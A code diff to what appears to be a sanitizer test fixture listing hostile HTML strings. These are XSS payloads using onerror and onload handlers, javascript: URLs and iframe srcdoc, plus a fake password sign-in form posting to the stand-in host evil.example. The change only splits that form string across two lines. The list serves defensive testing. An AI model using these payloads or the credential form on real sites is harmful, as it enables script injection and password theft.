@@ -55,7 +55,8 @@ export const hostileHtml: readonly string[] = [
   '<iframe srcdoc="<script>parent.window.hit=1</script>"></iframe>',
   '<object data="javascript:window.hit=1"></object>',
   '<embed src="data:image/svg+xml,<svg onload=window.hit=1>">',
-  '<form action="https://evil.example"><input name=password autofocus onfocus=window.hit=1><button formaction=javascript:window.hit=1>Sign in</button></form>',
+  '<form action="https://evil.example"><input name=password autofocus onfocus=window.hit=1>' +
+    '<button formaction=javascript:window.hit=1>Sign in</button></form>',
   '<input type=image src=x onerror=window.hit=1>',
   '<video><source onerror=window.hit=1></video>',
   '<audio src=x onerror=window.hit=1>',
